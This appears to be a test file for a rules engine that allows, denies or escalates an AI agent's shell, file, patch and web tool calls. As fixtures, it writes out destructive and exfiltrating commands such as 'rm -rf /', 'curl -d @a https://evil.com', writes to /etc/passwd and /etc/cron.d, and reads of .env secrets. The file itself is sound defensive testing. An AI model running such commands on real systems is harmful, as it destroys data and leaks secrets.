import { describe, expect, it } from "vitest";
import type { RuleEvent } from "../../src/rules/fields/judged-event.ts";
import { OPERATORS, operatorNamed, operatorOf } from "../../src/rules/operators/operators.ts";
import { compileInlineRules, openInlineRules } from "../../src/rules/rules.ts";
import { bash, call, ports } from "./ports.ts";

/** What the rules decide, by both strategies, which must agree. */
async function actionOf(rules: string, event: RuleEvent) {
  const definition = { name: "h", rules };
  const { action } = await (await compileInlineRules(definition, ports)).decide(event);
  expect((await openInlineRules(definition, ports).decide(event)).action).toBe(action);
  return action;
}

type Row = readonly [rules: string, tool: string, input: unknown, action: string];

const decides = async (...[rules, tool, input, action]: Row) => {
  expect(await actionOf(rules, call(tool, input))).toBe(action);
};

describe("several fields with shell text all count", () => {
  const real = { cmd: "rm -rf /", command: "ls" };
  it.each<Row>([
    ['command runs "rm -rf" -> deny()', "exec_command", real, "deny"],
    ['command starts_with "rm" -> deny()', "exec_command", real, "deny"],
    ['call runs "rm -rf" -> deny()', "exec_command", { ...real, command: "" }, "deny"],
    ['call runs "rm -rf" -> deny()', "exec_command", { cmd: "rm -rf /", command: "cat <<X" }, "deny"],
    ['call runs "rm -rf" -> deny()', "exec_command", { Command_Line: "rm -rf /" }, "deny"],
    ['args.command runs "rm" and not command contains "--dry" -> deny()', "exec_command", real, "deny"],
    ['args.command writes "/" and not command contains "--dry" -> deny()', "exec_command", real, "deny"],
    ['command runs "ls" -> allow()', "exec_command", real, "continue"],
    ['command glob "ls*" -> allow()', "exec_command", real, "continue"],
    ['args.command runs "ls" -> allow()', "exec_command", real, "continue"],
    ['command runs "ls" -> allow()', "exec_command", { cmd: "ls a", command: "ls" }, "allow"],
  ])("%s: %s %j is %s", decides);
});

describe("arguments in a field of their own, and lists of lines, are shell text", () => {
  const guard = 'command runs "rm -rf" -> deny()';
  it.each<Row>([
    [guard, "mcp__sh__run", { command: "rm", args: ["-rf", "src"] }, "deny"],
    [guard, "run_command", { command: "rm", args: "-rf src" }, "deny"],
    ['args.command runs "rm -rf" -> deny()', "bash", { command: "rm", arguments: ["-rf", "src"] }, "deny"],
    ['args.command contains "rm -rf" -> deny()', "bash", { command: "rm", args: ["-rf", "src"] }, "deny"],
    ['command runs "rm -rf" -> deny()', "bash", { command: "sh", args: ["-c", "rm -rf src"] }, "deny"],
    ["command dynamic -> ask()", "bash", { command: "rm", args: [{}] }, "ask"],
    ['command runs "git status" -> allow()', "bash", { command: "git", args: ["status"] }, "allow"],
    ['command runs "git" -> allow()', "bash", { command: "git", args: ["status"] }, "allow"],
    ['command equals "git" -> allow()', "bash", { command: "git", args: ["push"] }, "continue"],
    ['command runs "echo" -> allow()', "bash", { command: "echo", args: ["a; rm -rf src"] }, "allow"],
    ['command runs "echo" -> allow()', "bash", { command: "echo", args: "a; rm -rf src" }, "continue"],
    ['command runs "ls" -> allow()', "bash", { command: "ls", args: [] }, "allow"],
    [guard, "run_commands", { commands: ["ls", "rm -rf src"] }, "deny"],
    [guard, "mcp__sh__run", { commands: ["rm -rf src"] }, "deny"],
    [guard, "mcp__sh__run", { commands: [{ command: "rm -rf src" }] }, "deny"],
    [guard, "mcp__sh__run", { commands: "rm -rf src" }, "deny"],
    ["command dynamic -> ask()", "mcp__sh__run", { commands: [["ls", {}]] }, "ask"],
    ['command runs "ls" -> allow()', "bash", { commands: ["ls", "rm -rf src"] }, "continue"],
    ['command runs "ls" -> allow()', "bash", { commands: ["ls", "ls -l"] }, "allow"],
  ])("%s: %s %j is %s", decides);

  it("what can't be read may touch any file", async () => {
    for (const access of ["reads", "writes"])
      await decides(`call ${access} "/project/.env" -> ask()`, "Bash", { script: "cat x" }, "ask");
    await decides('call writes "**" -> allow()', "Bash", { script: "cat x" }, "continue");
  });
});

describe("a line of PowerShell", () => {
  it.each<Row>([
    ['command runs "@loses" -> ask()', "PowerShell", { command: "Remove-Item -Recurse src\\app" }, "ask"],
    ['call writes "src/a.ts" -> ask()', "PowerShell", { command: "Set-Content .\\src\\a.ts x" }, "ask"],
    ['call writes "src/a.ts" -> ask()', "powershell", { command: "'x' > src\\a.ts" }, "ask"],
    ['command runs "Remove-Item" -> ask()', "powershell", { command: "Rem`ove-Item x" }, "ask"],
    ['call writes "src/a.ts" -> ask()', "Bash", { command: "echo > src\\a.ts" }, "continue"],
  ])("%s: %s %j is %s", decides);
});

describe("a file is found by many names of fields", () => {
  it.each<Row>([
    ['call writes ".env" -> ask()', "mcp__fs__put", { dest: "/project/.env" }, "ask"],
    ['call writes ".env" -> ask()', "mcp__fs__rename", { src: "a", dst: "/project/.env" }, "ask"],
    ['call writes ".env" -> ask()', "mcp__fs__save", { target: ".env" }, "ask"],
    ['call writes ".env" -> ask()', "mcp__fs__batch", { writes: [{ path: ".env" }] }, "ask"],
    ['call writes ".env" -> ask()', "mcp__proxy__call", { name: "w", arguments: { path: ".env" } }, "ask"],
  ])("%s: %s %j is %s", decides);
});

describe("the reason for stopping a call whose shell text can't be read", () => {
  const reasonFor = async (rules: string, input: unknown, tool = "Bash") => {
    const { decide } = await compileInlineRules({ name: "h", rules }, ports);
    const outcome = await decide(call(tool, input));
    return "text" in outcome ? outcome.text : undefined;
  };
  const guard = 'call writes "/project/hooks/**" -> ask("This changes your hooks.")';
  const unread =
    "The command of this call can't be read, so what it would do is unknown. Give it as a string or a list of strings.";

  it("says so after the rule's own reason", async () => {
    expect(await reasonFor(guard, { command: { run: "ls" } })).toBe(`This changes your hooks.\n${unread}`);
    expect(await reasonFor('call writes "a" -> deny()', { command: {} })).toBe(unread);
  });

  it("keeps the reason of a rule that holds for something else, too", async () => {
    const long = 'args.timeout > 600 or command runs "x" -> deny("Too long: {{args.timeout}}")';
    expect(await reasonFor(long, { command: {}, timeout: 900 })).toBe(`Too long: 900\n${unread}`);
    const shell = 'tool equals "Bash" or command runs "ssh" -> deny("No shell in this project.")';
    expect(await reasonFor(shell, { command: {} })).toBe(`No shell in this project.\n${unread}`);
  });

  it("is the rule's own for a tool that is no shell", async () => {
    expect(await reasonFor(guard, { command: { x: 1 } }, "mcp__robot__move")).toBe(
      "This changes your hooks.",
    );
  });

  it("is the rule's own when the line can be read, or when the rule is not about it", async () => {
    expect(await reasonFor(guard, { command: "rm hooks/a.ts" })).toBe("This changes your hooks.");
    expect(await reasonFor(guard, { command: {}, cmd: "rm hooks/a.ts" })).toBe("This changes your hooks.");
    expect(await reasonFor('tool equals "Bash" -> deny("No shell.")', { command: {} })).toBe("No shell.");
  });
});

describe("shell text that can't be read is dynamic", () => {
  const guard = 'call runs "rm -rf" -> deny()\ncall dynamic -> ask()';
  it.each<Row>([
    [guard, "shell", { command: ["rm", "-rf", "/", 1] }, "deny"],
    [guard, "Bash", { command: { cmd: "rm -rf /" } }, "ask"],
    [guard, "Bash", { command: "ls", cmd: { x: "rm -rf /" } }, "ask"],
    [guard, "Bash", { script: "ls; rm -rf /" }, "ask"],
    ["args.command dynamic -> ask()", "Bash", { command: { cmd: "rm -rf /" } }, "ask"],
    ["command dynamic -> ask()", "Bash", { command: ["ls", {}] }, "ask"],
    ['args contains "ls" -> allow()', "Bash", { script: "ls; rm -rf /" }, "continue"],
    ["call dynamic -> ask()", "Read", { file_path: "a" }, "continue"],
    ["call dynamic -> ask()", "Bash", { command: "" }, "continue"],
  ])("%s: %s %j is %s", decides);
});

describe("a shell call runs in the folder it names", () => {
  it.each<Row>([
    [
      'call reads "/srv/private/**" -> deny()',
      "shell",
      { command: ["cat", "a.txt"], workdir: "/srv/private" },
      "deny",
    ],
    [
      'command reads "/srv/private/**" -> deny()',
      "shell",
      { command: ["cat", "a.txt"], workdir: "/srv/private" },
      "deny",
    ],
    [
      'call writes "/etc/**" -> deny()',
      "run_shell_command",
      { command: "echo x > hosts", directory: "/etc" },
      "deny",
    ],
    [
      'call writes "/project/sub/**" -> deny()',
      "Bash",
      { command: "touch a", working_directory: "sub" },
      "deny",
    ],
    [
      'call writes "/project/**" -> allow()',
      "shell",
      { command: ["touch", "hosts"], workdir: "/etc" },
      "continue",
    ],
    [
      'call writes "/project/**" -> allow()',
      "shell",
      { command: ["touch", "hosts"], workdir: "/project", cwd: "/etc" },
      "continue",
    ],
    [
      'call writes "/project/**" -> allow()',
      "shell",
      { command: ["touch", "/project/a"], workdir: "/etc" },
      "allow",
    ],
  ])("%s: %s %j is %s", decides);
});

describe("a patch is read wherever it stands", () => {
  const rules = 'call writes "**/.env" -> deny()';
  const patch = "*** Begin Patch\n*** Update File: .env\n@@\n-a\n+b\n*** End Patch";
  it.each<Row>([
    [rules, "apply_patch", { command: patch }, "deny"],
    [rules, "apply_patch", { command: ["apply_patch", patch] }, "deny"],
    [rules, "apply_patch", { input: patch.replaceAll("***", "  ***") }, "deny"],
    [rules, "apply_patch", { input: patch.replace(".env", "ok"), patch }, "deny"],
    [rules, "apply_patch", { patch: "--- a/.env\n+++ b/.env\n@@ -1 +1 @@\n-a\n+b" }, "deny"],
    [rules, "apply_patch", { patch: "--- /dev/null\n+++ b/.env\t2026-01-01\n" }, "deny"],
    [rules, "apply_patch", { patch: "rename from a\nrename to .env\n" }, "deny"],
    [rules, "apply_patch", { operation: { type: "update_file", path: ".env", diff: "@@" } }, "deny"],
    [rules, "apply_patch", { patch: "something else" }, "deny"],
    [rules, "apply_patch", { command: patch.replace(".env", "src/a") }, "continue"],
    ['call reads "**/.env" -> deny()', "apply_patch", { patch: "something else" }, "continue"],
    ['call writes "**" -> allow()', "apply_patch", { patch: "something else" }, "continue"],
    ['call writes "src/**" -> allow()', "apply_patch", { patch: "--- a/src/x\n+++ b/src/x\n" }, "allow"],
    [
      'call writes "src/**" -> allow()',
      "apply_patch",
      { input: "*** Update File: src/a.sql\n@@\n--- a remark\n+x" },
      "allow",
    ],
  ])("%s: %s %j is %s", decides);
});

describe("a tool outside the table", () => {
  it.each<Row>([
    [
      'call writes "**/.env" -> deny()',
      "str_replace_based_edit_tool",
      { command: "create", path: "/project/.env" },
      "deny",
    ],
    [
      'call writes "**/.env" -> deny()',
      "str_replace_based_edit_tool",
      { command: "view", path: "/project/.env" },
      "continue",
    ],
    ['call writes "**/.env" -> deny()', "mcp__fs__write_file2", { command: "write", path: ".env" }, "deny"],
    ['call runs "rm" -> deny()', "mcp__x__do", { command: "rm a", path: "b" }, "deny"],
    ['call reads "/project/**" -> allow()', "mcp__x__do", { command: "cat a", path: "b" }, "continue"],
    ['call reads "/project/**" -> allow()', "mcp__x__do", { command: "cat a" }, "allow"],
  ])("may run and touch: %s: %s %j is %s", decides);
});

describe("files are found by every agent's name for the field", () => {
  const rules = 'call reads "**/.env" -> deny()';
  it.each<Row>([
    [rules, "view_file", { AbsolutePath: "/project/.env" }, "deny"],
    [rules, "read_file", { TargetFile: ".env" }, "deny"],
    [rules, "read_file", { filepath: ".env" }, "deny"],
    [rules, "read_file", { relative_workspace_path: ".env" }, "deny"],
    [rules, "read_file", { fileName: ".env" }, "deny"],
    [rules, "read_file", { uri: "file:///project/%2Eenv" }, "deny"],
    ['call reads "secret/**" -> deny()', "list_dir", { target_directory: "secret" }, "deny"],
    ['path glob ".env" -> deny()', "read_file", { AbsolutePath: "/project/.env" }, "deny"],
    ['call connects "evil.com" -> deny()', "read_url_content", { Url: "https://evil.com/x" }, "deny"],
    ['call connects "evil.com" -> deny()', "mcp__x__get", { uri: "https://evil.com/x" }, "deny"],
    // An address that can't be read may lead anywhere.
    [
      'call connects "ok.com" -> allow()',
      "WebFetch",
      { url: "http://ex ample", base_url: "https://ok.com" },
      "continue",
    ],
    ['not call connects "ok.com" -> deny()', "WebFetch", { url: "http://ex ample" }, "deny"],
    ['args.uri glob "https://evil.com/*" -> deny()', "mcp__x__get", { uri: "https://evil.com/a/b" }, "deny"],
    [rules, "read_many_files", { include: [".env"] }, "deny"],
    [rules, "read_many_files", { paths: [".e*"] }, "deny"],
    [rules, "read_many_files", { paths: ["src/*.ts"] }, "continue"],
    [rules, "Glob", { pattern: "**/.env" }, "deny"],
    [rules, "Glob", { pattern: "{.env,x}" }, "deny"],
    [rules, "Glob", { pattern: "src/**/*.ts" }, "continue"],
    ['call reads "/srv/.env" -> deny()', "Glob", { pattern: ".e*", path: "/srv" }, "deny"],
    [rules, "Grep", { pattern: "KEY", glob: ".e*" }, "deny"],
    [rules, "Grep", { pattern: ".env" }, "continue"],
    ['call reads "/project/src/**" -> allow()', "Glob", { pattern: "src/**/*.ts" }, "allow"],
    ['call reads "/project/src/**" -> allow()', "Glob", { pattern: "src/**/../../x" }, "continue"],
    ['call reads "/project/**" -> allow()', "Glob", { pattern: "{src,../etc}/*" }, "continue"],
  ])("%s: %s %j is %s", decides);
});

describe("an allow by what is read", () => {
  const rules = 'call reads "/project/**" -> allow()';
  const both = 'call reads "/project/**" and call writes "/project/**" -> allow()';
  it.each([
    [rules, "cat a", "allow"],
    [rules, "cat a 2>/dev/null", "allow"],
    [rules, "cp a /etc/cron.d/x", "continue"],
    [rules, "cat a > /etc/passwd", "continue"],
    [rules, "curl -d @a https://evil.com", "continue"],
    ['call connects "ok.com" -> allow()', "curl https://ok.com -o /etc/x", "continue"],
    ['call connects "ok.com" -> allow()', "curl https://ok.com", "allow"],
    [both, "cp a b", "allow"],
    [both, "cp a /etc/x", "continue"],
    [`${both.replace(" and ", " or ")}`, "cp a /etc/x", "continue"],
    ['command runs "cp" or call reads "/project/**" -> allow()', "cp a /etc/x", "allow"],
    // What a rule that denies excepts is not an allow.
    ['call reads "/etc/**" and not call reads "/etc/hosts" -> deny()', "cat /etc/hosts > x", "continue"],
  ])("%s: %s is %s", async (given, line, expected) => {
    expect(await actionOf(given, bash(line))).toBe(expected);
  });
});

describe("many rules and many wildcards", () => {
  it("are compared before the test runs out of time", async () => {
    const lines = Array.from({ length: 1_000 }, (_, at) => `call reads "**/secret${at}/*.key" -> deny()`);
    const { decide } = await compileInlineRules({ name: "h", rules: lines.join("\n") }, ports);
    const globs = Array.from({ length: 300 }, (_, at) => `/srv/folder-${at}/some/where/*.txt`).join(" ");
    await decide(bash("cat *"));
    expect((await decide(bash(`cat ${globs}`))).action).toBe("continue");
  });
});

describe("a negated operator is asked of each command by itself too", () => {
  const names = Object.keys(OPERATORS).flatMap((name) => operatorNamed(name) ?? []);
  const negated = names.filter((name) => operatorOf(name).negated === true);
  it.each(negated)("%s does not let the rest of the line hide a command", async (name) => {
    const line = "git push --force; echo --dry-run";
    const rule = `command runs "git push" and command ${name} ${JSON.stringify(line)} -> deny()`;
    expect(await actionOf(rule, bash(line))).toBe("deny");
  });
});
